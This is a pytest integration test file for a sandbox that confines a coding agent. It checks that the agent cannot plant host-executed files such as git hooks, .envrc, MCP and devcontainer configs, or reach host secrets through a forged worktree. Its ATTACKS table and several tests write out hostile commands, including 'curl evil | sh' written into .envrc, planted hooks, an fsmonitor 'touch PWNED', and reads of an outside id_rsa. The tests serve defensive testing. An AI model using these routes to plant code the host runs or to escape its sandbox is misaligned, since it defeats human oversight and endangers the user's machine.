"""Host-executed files inside the writable project stay read-only, in nested repositories
and worktrees too; git stays useful; no placeholder is left behind, even after SIGKILL."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from agent_sandbox._plan.build import Op
from tests.conftest import GIT_ENV, SECRET, Env, host_git, launched, sandbox_sh
from tests.plans import plan_for, run_plan

pytestmark = pytest.mark.integration




@pytest.fixture
def repo(project: Path, env: Env) -> Path:
    host_git(env, "init", "-q", cwd=project)
    (project / "src.py").write_text("print(1)\n")
    (project / ".vscode").mkdir()
    (project / ".vscode" / "settings.json").write_text("{}\n")
    (project / "tools" / "hooks").mkdir(parents=True)
    (project / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (project / "tools" / "hooks" / "pre-commit").chmod(0o755)
    host_git(env, "config", "core.hooksPath", "tools/hooks", cwd=project)
    # Protected when they exist (only the riskiest missing names get placeholders).
    (project / ".gitmodules").write_text("")
    (project / "shell.nix").write_text("{ }\n")
    (project / ".husky").mkdir()
    (project / ".husky" / "pre-push").write_text("exit 0\n")
    (project / ".claude" / "commands").mkdir(parents=True)
    (project / ".claude" / "commands" / "review.md").write_text("Review the diff.\n")
    (project / ".agent-sandbox.toml").write_text("")
    (project / "vendor" / "lib").mkdir(parents=True)
    host_git(env, "init", "-q", cwd=project / "vendor" / "lib")  # a nested repository
    host_git(env, "commit", "-q", "--allow-empty", "-m", "nested", cwd=project / "vendor" / "lib")
    host_git(env, "add", "src.py", ".vscode", "tools", ".gitmodules", "shell.nix", ".husky",
         ".claude", ".agent-sandbox.toml", cwd=project)
    host_git(env, "commit", "-qm", "init", cwd=project)
    return project


def _listing(path: Path) -> list[str]:
    """Everything in the project but the .git internals (retried while a janitor removes
    placeholders under the walk)."""
    while True:
        try:
            return sorted(str(p.relative_to(path)) for p in path.rglob("*")
                          if ".git/" not in str(p))
        except FileNotFoundError:
            continue


ATTACKS = {
    "git hook": "echo evil > .git/hooks/pre-commit",
    # git config writes land in a copy (test_git_config.py); the host's file is untouched.
    "git config (rename over it)": "mv .git/config .git/x && echo '[core]' > .git/config",
    "git info": "echo '*' > .git/info/exclude || echo x > .git/info/attributes",
    "hooksPath dir": "echo evil > tools/hooks/pre-commit",
    "nested repo hook": "echo evil > vendor/lib/.git/hooks/post-checkout",
    "nested repo config": "rm -f vendor/lib/.git/config",
    ".envrc": "echo 'curl evil | sh' > .envrc",
    "flake.nix": "echo '{ }' > flake.nix",
    "shell.nix (existing)": "echo '{ evil }' > shell.nix",
    ".vscode task": "echo '{}' > .vscode/tasks.json",
    ".vscode swapped for a symlink": "rm -rf .vscode && ln -s /tmp .vscode",
    ".mcp.json": "echo '{}' > .mcp.json",
    "claude settings": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
    "claude commands (existing)": "echo x > .claude/commands/x.md",
    ".gitmodules (existing)": "echo '[submodule]' > .gitmodules",
    "pre-commit config": "echo 'repos: []' > .pre-commit-config.yaml",
    "husky (existing)": "echo evil > .husky/pre-commit",
    ".git renamed away": "mv .git .git-old && mkdir .git",
    "git commondir": "echo ../elsewhere > .git/commondir",
    "nested repo commondir": "echo /tmp > vendor/lib/.git/commondir",
    ".claude renamed away": "mv .claude .c2 && mkdir .claude && echo '{}' > .claude/x.json",
    "nested repo's directory renamed away": "mv vendor/lib vendor/lib.old",
    "nested repo's parent renamed away": "mv vendor vendor.old",
    "sandbox config (existing)": "echo 'net = \"host\"' > .agent-sandbox.toml",
    # Missing at launch, run on their own by host tools (the table in _policy/protected.py).
    "direnv .envrc.local": "echo 'curl evil | sh' > .envrc.local",
    "mise.toml": "printf '[hooks]\\nenter = \"evil\"\\n' > mise.toml",
    ".tool-versions": "echo 'evil 1.0' > .tool-versions",
    "default.nix (missing)": "echo '{ evil }' > default.nix",
    "flake.lock (missing)": "echo '{}' > flake.lock",
    "devcontainer": "mkdir -p .devcontainer && echo '{\"initializeCommand\": \"evil\"}' > "
                    ".devcontainer/devcontainer.json",
    "gemini MCP server": "mkdir -p .gemini && echo '{\"mcpServers\": {}}' > .gemini/settings.json",
    "codex MCP server": "mkdir -p .codex && echo '[mcp_servers.x]' > .codex/config.toml",
    "cursor MCP server": "mkdir -p .cursor && echo '{}' > .cursor/mcp.json",
    "idea run configuration": "mkdir -p .idea/runConfigurations && echo x > "
                              ".idea/runConfigurations/x.xml",
    "zed task": "mkdir -p .zed && echo '[]' > .zed/tasks.json",
    "git alternates": "echo /elsewhere/objects > .git/objects/info/alternates",
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_protected_file_attacks_fail(repo: Path, env: Env, name: str) -> None:
    before = _listing(repo)
    config = (repo / ".git" / "config").read_text()
    done = sandbox_sh(f"({ATTACKS[name]}) 2>/dev/null && echo SUCCEEDED; true", cwd=repo,
                      env=env.vars)
    assert "SUCCEEDED" not in done.stdout, name
    assert _listing(repo) == before  # nothing created, nothing left behind
    assert (repo / ".git" / "config").read_text() == config
    assert (repo / ".vscode").is_dir() and not (repo / ".vscode").is_symlink()


def test_git_stays_useful(repo: Path, env: Env) -> None:
    script = (
        "set -e; echo 'print(2)' >> src.py; echo new > new.txt; git add src.py new.txt; "
        "git commit -qm work; git branch feature; git stash list; echo tmp > t.txt; "
        "git stash -u -q; git stash pop -q; git worktree add -q wt feature; "
        "git -C wt log --oneline | wc -l; git diff HEAD~1 --stat | tail -1; "
        "git submodule status; git log --oneline | wc -l"
    )
    done = sandbox_sh(script, cwd=repo, env=env.with_(**GIT_ENV))
    assert done.returncode == 0, done.stderr
    assert (repo / "new.txt").read_text() == "new\n"
    assert host_git(env, "log", "--format=%s", cwd=repo).split() == ["work", "init"]
    assert (repo / "wt" / "src.py").exists()


def test_a_worktree_project_keeps_its_real_repositorys_hooks_read_only(repo: Path,
                                                                       env: Env) -> None:
    worktree = repo.parent / "feature-wt"
    host_git(env, "worktree", "add", "-q", str(worktree), cwd=repo)
    script = ("git status --short; echo x > x.txt && git add x.txt && git commit -qm wt; "
              "(echo evil > \"$(git rev-parse --git-common-dir)/hooks/pre-push\") 2>/dev/null "
              "&& echo HOOK-WRITTEN; (echo 'gitdir: /tmp' > .git) 2>/dev/null && echo REDIRECTED;"
              " true")
    done = sandbox_sh(script, cwd=worktree, env=env.with_(**GIT_ENV))
    assert done.returncode == 0, done.stderr
    assert "HOOK-WRITTEN" not in done.stdout and "REDIRECTED" not in done.stdout
    assert not (repo / ".git" / "hooks" / "pre-push").exists()
    assert "wt" in host_git(env, "log", "--all", "--format=%s", cwd=repo).split()


def test_placeholders_are_removed_even_after_the_launcher_is_killed(repo: Path,
                                                                    env: Env) -> None:
    before = _listing(repo)
    with launched(["-q", "--", "sh", "-c", "echo up; sleep 60"], cwd=repo,
                  env=env.vars) as proc:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "up"
        assert (repo / "flake.nix").exists()  # the placeholder, while the sandbox runs
        assert (repo / ".envrc").exists()
        proc.kill()
        proc.wait()
    deadline = time.monotonic() + 15
    while _listing(repo) != before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _listing(repo) == before


def test_host_git_and_a_second_sandbox_work_while_a_sandbox_runs(repo: Path,
                                                                  env: Env) -> None:
    # The mount points of missing protected files hold what the sandbox shows: an empty
    # .git/commondir made host git fail ("failed to read .git/commondir") for as long as
    # an agent ran, and a second sandbox took it for a real one.
    commondir = repo / ".git" / "commondir"
    assert not commondir.exists()
    with launched(["-q", "--", "sh", "-c", "echo up; sleep 60"], cwd=repo,
                  env=env.vars) as proc:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "up"
        assert commondir.read_text() == ".\n"
        # Claude Code on the host reads a valid, empty MCP configuration.
        assert json.loads((repo / ".mcp.json").read_text()) == {"mcpServers": {}}
        assert host_git(env, "status", "--short", cwd=repo) is not None  # host git works
        second = sandbox_sh("git status --short >/dev/null && echo GIT-OK", cwd=repo,
                            env=env.with_(**GIT_ENV))
        assert "GIT-OK" in second.stdout, second.stderr
        proc.terminate()
        proc.wait(timeout=20)
    assert not commondir.exists()  # still what the launcher wrote: removed


def test_a_placeholder_the_host_changed_is_kept(repo: Path, env: Env) -> None:
    commondir = repo / ".git" / "commondir"
    with launched(["-q", "--", "sh", "-c", "echo up; sleep 60"], cwd=repo,
                  env=env.vars) as proc:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "up"
        commondir.write_text("../elsewhere\n")  # the user's own change, on the host
        proc.terminate()
        proc.wait(timeout=20)
    assert commondir.read_text() == "../elsewhere\n"


def test_git_push_over_ssh_says_why_it_fails(repo: Path, env: Env) -> None:
    done = sandbox_sh("git push ssh://git@git.example.invalid/me/repo.git HEAD 2>&1; "
                      "echo status=$?", cwd=repo, env=env.with_(**GIT_ENV))
    assert "git over SSH does not work inside the sandbox" in done.stdout
    assert "status=128" in done.stdout


def test_protection_can_be_extended_by_the_project_and_relaxed_by_the_user(
    repo: Path, env: Env
) -> None:
    (repo / "Makefile").write_text("all:\n\techo build\n")
    (repo / ".agent-sandbox.toml").write_text('protect = ["Makefile"]\n')
    user = env.home / ".config" / "agent-sandbox"
    user.mkdir(parents=True)
    (user / "config.toml").write_text('unprotect = [".vscode"]\n')
    done = sandbox_sh("(echo evil >> Makefile) 2>/dev/null && echo MAKEFILE-WRITTEN; "
                      "echo '{}' > .vscode/tasks.json && echo VSCODE-WRITTEN; true",
                      cwd=repo, env=env.vars)
    assert "MAKEFILE-WRITTEN" not in done.stdout
    assert "VSCODE-WRITTEN" in done.stdout
    # The project file cannot relax anything.
    (repo / ".agent-sandbox.toml").write_text('unprotect = [".git/hooks"]\n')
    done = sandbox_sh("true", cwd=repo, env=env.vars)
    assert done.returncode == 2 and "may only tighten" in done.stderr


def test_a_token_file_lets_git_authenticate_over_https(repo: Path, env: Env,
                                                       tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text("ghp_example_token\n")
    token.chmod(0o600)
    script = ("printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill; "
              "(echo stolen > /run/agent-sandbox/git-token) 2>/dev/null && echo WRITTEN; "
              "env | grep -c ghp_ || true")
    done = sandbox_sh(script, cwd=repo, env=env.vars, extra=["--git-token-file", str(token)])
    assert "username=x-access-token" in done.stdout
    assert "password=ghp_example_token" in done.stdout
    assert "WRITTEN" not in done.stdout
    assert done.stdout.splitlines()[-1] == "0"  # never in the environment
    assert token.read_text() == "ghp_example_token\n"


def _without_pins(op: Op) -> Sequence[Op]:
    return () if "parent cannot be renamed" in op.why else (op,)


def test_renaming_a_protected_paths_parent_is_refused_and_matters(project: Path, env: Env,
                                                                  tmp_path: Path) -> None:
    # .claude is made by the launcher on the way to its placeholders, and pinned.
    script = ("mkdir -p .claude/agents && echo ok > .claude/agents/a.md && echo WROTE; "
              "mv .claude .c2 && mkdir .claude && echo '{}' > .claude/settings.json && "
              "echo SWAPPED")
    done = sandbox_sh(script, cwd=project, env=env.vars)
    assert "WROTE" in done.stdout and "SWAPPED" not in done.stdout, done.stderr
    assert (project / ".claude" / "agents" / "a.md").read_text() == "ok\n"
    assert not (project / ".claude" / "settings.json").exists()
    # The same plan without the pins: the rename works and the protection is left behind.
    done = run_plan(plan_for(project, env.vars, ["sh", "-c", script]), tmp_path, _without_pins)
    assert "SWAPPED" in done.stdout, done.stderr
    assert (project / ".claude" / "settings.json").read_text() == "{}\n"


def test_without_its_placeholder_commondir_sends_host_git_elsewhere(repo: Path, env: Env,
                                                                    tmp_path: Path) -> None:
    script = "echo . > .git/commondir && echo WRITTEN"
    assert "WRITTEN" not in sandbox_sh(script, cwd=repo, env=env.vars).stdout
    assert not (repo / ".git" / "commondir").exists()  # the placeholder is gone again
    plan = plan_for(repo, env.vars, ["sh", "-c", script])
    done = run_plan(plan, tmp_path, lambda op: () if "commondir" in op.why else (op,))
    assert "WRITTEN" in done.stdout, done.stderr


def test_a_forged_worktree_cannot_bind_a_host_directory(project: Path, env: Env,
                                                        tmp_path: Path) -> None:
    # Everything here is project content the agent could have written in an earlier session:
    # sub/.git names fake/ as its git dir, and fake/commondir names a directory outside.
    outside = tmp_path / "outside"
    (outside / "secret").mkdir(parents=True)
    (outside / "secret" / "id_rsa").write_text(SECRET)
    (project / "sub").mkdir()
    (project / "sub" / ".git").write_text("gitdir: ../fake\n")
    (project / "fake").mkdir()
    (project / "fake" / "gitdir").write_text(f"{project}/sub/.git\n")
    (project / "fake" / "HEAD").write_text("ref: refs/heads/main\n")
    (project / "fake" / "commondir").write_text(f"{outside}\n")
    script = f"cat {outside}/secret/id_rsa; touch {outside}/secret/planted && echo PLANTED"
    done = sandbox_sh(script, cwd=project, env=env.vars)
    assert SECRET not in done.stdout and "PLANTED" not in done.stdout, done.stderr
    assert sorted(p.name for p in outside.rglob("*")) == ["id_rsa", "secret"]
    # Nothing outside is even planned (a real linked worktree's repository still is: see
    # test_a_worktree_project_keeps_its_real_repositorys_hooks_read_only).
    protections = plan_for(project, env.vars, ["true"]).protections
    assert not [p.path for p in protections if p.path.startswith(str(outside))]


def test_placeholder_cleanup_never_follows_a_swapped_directory(project: Path, env: Env,
                                                               tmp_path: Path) -> None:
    # Without the pins (the defence above), the agent could move .claude away and put a
    # symlink to a host directory holding an empty file of the same name in its place.
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "settings.json").write_text("")
    (victim / "commands").mkdir()
    script = f"mv .claude .claude-moved && ln -s {victim} .claude && echo SWAPPED"
    done = run_plan(plan_for(project, env.vars, ["sh", "-c", script]), tmp_path, _without_pins)
    assert "SWAPPED" in done.stdout, done.stderr
    assert (victim / "settings.json").exists() and (victim / "commands").is_dir()


def test_a_repository_made_inside_with_host_run_config_is_quarantined(repo: Path,
                                                                      env: Env) -> None:
    # A repository made during the session (and added as a gitlink, so host `git status`
    # enters it) keeps its history; what host git would run is set aside at exit
    # (tests/integration/test_quarantine.py has the rest).
    script = ("git init -q evil && git -C evil commit -q --allow-empty -m x && "
              "git -C evil config core.fsmonitor 'touch PWNED' && "
              "git init -q plain && git -C plain remote add origin https://example.com/x && "
              "git add evil && echo MADE")
    done = sandbox_sh(script, cwd=repo, env=env.with_(**GIT_ENV))
    assert "MADE" in done.stdout, done.stderr
    summary = [line for line in done.stderr.splitlines() if "quarantined" in line]
    assert len(summary) == 1 and "(git config host git would run (fsmonitor = touch PWNED))" \
        in summary[0], summary
    assert "example.com" in (repo / "plain" / ".git" / "config").read_text()  # plain: kept
    host_git(env, "status", cwd=repo)
    assert not (repo / "PWNED").exists()


@pytest.mark.parametrize("configured", [False, True])
def test_the_users_global_excludes_hold_inside(repo: Path, env: Env, configured: bool) -> None:
    """Files you ignore everywhere stay unstaged by `git add -A` inside, next to the
    placeholders (the sandbox adds its patterns to yours). Your ignore file lives in the
    hidden home: given as ~/.config/git/ignore, or by core.excludesFile."""
    patterns = "*.secret\n.env.local\n"
    if configured:
        (env.home / "my-ignore").write_text(patterns)
        with (env.home / ".gitconfig").open("a") as f:
            f.write("[core]\n\texcludesFile = ~/my-ignore\n")
    else:
        (env.home / ".config" / "git").mkdir(parents=True)
        (env.home / ".config" / "git" / "ignore").write_text(patterns)
    script = ("echo k > api.secret; echo k > .env.local; echo ok > kept.txt; git add -A; "
              "git status --porcelain")
    done = sandbox_sh(script, cwd=repo, env=env.with_(**GIT_ENV))
    assert done.returncode == 0, done.stderr
    staged = done.stdout.split()
    assert "kept.txt" in staged
    assert "api.secret" not in staged and ".env.local" not in staged
    assert ".envrc" not in staged and ".mcp.json" not in staged  # the placeholders
    # The control: without the user's patterns git inside stages both.
    (repo / "api.secret").unlink()
    (repo / ".env.local").unlink()
    host_git(env, "reset", "-q", cwd=repo)
    for path in (env.home / "my-ignore", env.home / ".config" / "git" / "ignore"):
        path.unlink(missing_ok=True)
    again = sandbox_sh(script, cwd=repo, env=env.with_(**GIT_ENV))
    assert "api.secret" in again.stdout.split() and ".env.local" in again.stdout.split()


@pytest.mark.parametrize("ending", ["exit", "SIGKILL"])
def test_host_git_lists_no_placeholder_while_a_sandbox_runs(repo: Path, env: Env,
                                                           ending: str) -> None:
    exclude = repo / ".git" / "info" / "exclude"
    before = exclude.read_bytes()
    nested = repo / "vendor" / "lib" / ".git" / "info" / "exclude"
    nested_before = nested.read_bytes()
    status = ["status", "--porcelain", "--untracked-files=all"]
    quiet = host_git(env, *status, cwd=repo)
    assert ".envrc" not in quiet
    with launched(["-q", "--", "sh", "-c", "echo up; sleep 60"], cwd=repo,
                  env=env.vars) as proc:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "up"
        assert (repo / ".envrc").exists() and (repo / ".mcp.json").exists()
        assert host_git(env, *status, cwd=repo) == quiet
        assert (repo / "vendor" / "lib" / ".envrc").exists()
        assert host_git(env, *status, cwd=repo / "vendor" / "lib") == ""
        if ending == "SIGKILL":
            proc.kill()
        else:
            proc.terminate()
        proc.wait(timeout=20)
    # The user's info/exclude is as it was (the janitor restores it after a SIGKILL).
    deadline = time.monotonic() + 15
    while exclude.read_bytes() != before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert exclude.read_bytes() == before and nested.read_bytes() == nested_before


def test_a_relative_hooks_path_from_the_global_config_is_protected(repo: Path, env: Env,
                                                                   tmp_path: Path) -> None:
    """A global ``core.hooksPath = .hooks`` names a directory in every repository: the
    session must not create it, or host git commit runs what it put there."""
    host_git(env, "config", "--unset", "core.hooksPath", cwd=repo)
    with (env.home / ".gitconfig").open("a") as f:
        f.write("[core]\n\thooksPath = .hooks\n")
    marker = tmp_path / "HOOK-RAN"
    plant = (f"mkdir -p .hooks && printf '#!/bin/sh\\ntouch {marker}\\n' > .hooks/pre-commit "
             "&& chmod +x .hooks/pre-commit && echo PLANTED")
    done = sandbox_sh(f"{plant}; true", cwd=repo, env=env.vars)
    assert "PLANTED" not in done.stdout
    (repo / "f").write_text("x\n")
    host_git(env, "add", "f", cwd=repo)
    host_git(env, "commit", "-qm", "host commit", cwd=repo)
    assert not marker.exists()
    # The control: the same plan without the protection of .hooks lets the hook in, and
    # host git commit runs it.
    plan = plan_for(repo, env.vars, ["sh", "-c", plant])
    unprotected = run_plan(plan, tmp_path, lambda op: () if str(op.words[-1]).endswith(
        "/.hooks") and "protected" in op.why else (op,))
    assert "PLANTED" in unprotected.stdout, unprotected.stderr
    (repo / "g").write_text("y\n")
    host_git(env, "add", "g", cwd=repo)
    host_git(env, "commit", "-qm", "host commit 2", cwd=repo)
    assert marker.exists()


def _direnv(env: Env, project: Path, command: str) -> subprocess.CompletedProcess[str]:
    """What entering the project runs: direnv (allowed by the user) loads its .envrc."""
    environ = env.with_(XDG_DATA_HOME=str(env.home / ".local/share"),
                        XDG_CONFIG_HOME=str(env.home / ".config"))
    subprocess.run(["direnv", "allow", str(project)], env=environ, check=True,
                   capture_output=True, timeout=30)
    return subprocess.run(["direnv", "exec", str(project), "sh", "-c", command], cwd=project,
                          env=environ, capture_output=True, text=True, timeout=30,
                          check=False)


ENVRC = "source_env_if_exists .envrc.private\ndotenv_if_exists .env.dev\nPATH_add scripts\n"


def test_what_the_envrc_loads_is_protected_and_direnv_runs_nothing_planted(
        repo: Path, env: Env, tmp_path: Path) -> None:
    if subprocess.run(["sh", "-c", "command -v direnv"], capture_output=True).returncode:
        pytest.skip("direnv is not installed (scripts/setup.sh installs it)")
    (repo / ".envrc").write_text(ENVRC)
    marker = tmp_path / "PLANTED-RAN"
    plants = [f"echo 'touch {marker}' > .envrc.private",
              f"echo 'BASH_ENV=/dev/null\\nX=1' > .env.dev && echo 'touch {marker}' >> .env.dev",
              f"mkdir -p scripts && printf '#!/bin/sh\\ntouch {marker}\\n' > scripts/git "
              "&& chmod +x scripts/git"]
    for plant in plants:
        done = sandbox_sh(f"({plant}) 2>/dev/null && echo PLANTED; true", cwd=repo,
                          env=env.vars)
        assert "PLANTED" not in done.stdout, plant
    entered = _direnv(env, repo, "git --version")
    assert entered.returncode == 0, entered.stderr
    assert not marker.exists()
    # The control: without the protections of what the .envrc loads, the plants go in and
    # entering the project runs them.
    plan = plan_for(repo, env.vars, ["sh", "-c", " && ".join(plants)])
    loaded = ("/.envrc.private", "/.env.dev", "/scripts")
    unprotected = run_plan(plan, tmp_path, lambda op: () if str(op.words[-1]).endswith(
        loaded) and "envrc" in op.why else (op,))
    assert unprotected.returncode == 0, unprotected.stderr
    _direnv(env, repo, "git --version")
    assert marker.exists()
